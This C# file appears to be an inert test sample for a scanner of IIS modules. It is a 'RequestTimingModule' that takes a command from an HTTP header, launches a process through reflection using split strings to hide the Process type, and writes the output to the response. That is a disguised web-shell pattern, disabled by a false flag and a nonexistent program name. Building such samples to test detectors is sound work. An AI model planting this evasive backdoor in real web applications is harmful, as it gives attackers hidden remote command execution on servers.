// Behaviour sample 6 (managed IHttpModule): reflection-hidden process
// creation with split strings; command from a header; output to the
// response.
//
// Imitates a module that never names System.Diagnostics.Process in its
// metadata: PostAuthenticateRequest is subscribed with an explicit
// delegate (ldftn + newobj); the handler reads the header "X-Req-Trace-Ctx"
// and hands it to an async method (a compiler-made state machine) whose
// MoveNext builds "System.Diagnostics.ProcessStartInfo, System" and
// "System.Diagnostics.Process, System" with string.Concat of static
// readonly fields (the pieces stay split in the IL), creates the start
// info with Activator.CreateInstance, sets FileName/Arguments/
// UseShellExecute/RedirectStandardOutput through PropertyInfo.SetValue,
// calls Process.Start(ProcessStartInfo) through MethodBase.Invoke, reads
// StandardOutput and writes it with Response.Write.
// Varies: no literal type name, no "Start" method-name literal (split),
// async state machine.
//
// Inert: everything suspicious is inside `if (Inert.Off)` (static readonly,
// false at run time); the program name does not exist.
using System;
using System.IO;
using System.Reflection;
using System.Threading.Tasks;
using System.Web;

namespace Contoso.Telemetry
{
    internal static class Inert
    {
        internal static readonly bool Off = ComputeOff();
        static bool ComputeOff() { return false; }
    }

    internal static class Parts
    {
        internal static readonly string Ns1 = "System.Diagn";
        internal static readonly string Ns2 = "ostics.";
        internal static readonly string T1 = "Proc";
        internal static readonly string T2 = "ess";
        internal static readonly string Si = "StartInfo";
        internal static readonly string Asm = ", System";
        internal static readonly string M1 = "St";
        internal static readonly string M2 = "art";
        internal static readonly string Prog = "iisweep-inert-never-runs.exe";
    }

    public class RequestTimingModule : IHttpModule
    {
        public void Init(HttpApplication context)
        {
            context.PostAuthenticateRequest += new EventHandler(this.OnPostAuthenticate);
        }

        private void OnPostAuthenticate(object sender, EventArgs e)
        {
            HttpContext ctx = ((HttpApplication)sender).Context;
            if (Inert.Off)
            {
                string ctxValue = ctx.Request.Headers["X-Req-Trace-Ctx"];
                if (!string.IsNullOrEmpty(ctxValue))
                {
                    Task<string> t = SampleAsync(ctxValue);
                    ctx.Response.Write(t.Result);
                }
            }
        }

        private static async Task<string> SampleAsync(string args)
        {
            await Task.Yield();
            string procName = string.Concat(Parts.Ns1, Parts.Ns2, Parts.T1, Parts.T2);
            Type psiType = Type.GetType(string.Concat(procName, Parts.Si, Parts.Asm));
            Type procType = Type.GetType(string.Concat(procName, Parts.Asm));
            object psi = Activator.CreateInstance(psiType);
            psiType.GetProperty("FileName").SetValue(psi, Parts.Prog, null);
            psiType.GetProperty("Arguments").SetValue(psi, args, null);
            psiType.GetProperty("UseShellExecute").SetValue(psi, false, null);
            psiType.GetProperty("RedirectStandardOutput").SetValue(psi, true, null);
            MethodInfo start = procType.GetMethod(string.Concat(Parts.M1, Parts.M2),
                                                  new Type[] { psiType });
            object proc = start.Invoke(null, new object[] { psi });
            TextReader so = (TextReader)procType.GetProperty("StandardOutput").GetValue(proc, null);
            return await so.ReadToEndAsync();
        }

        public void Dispose()
        {
        }
    }
}
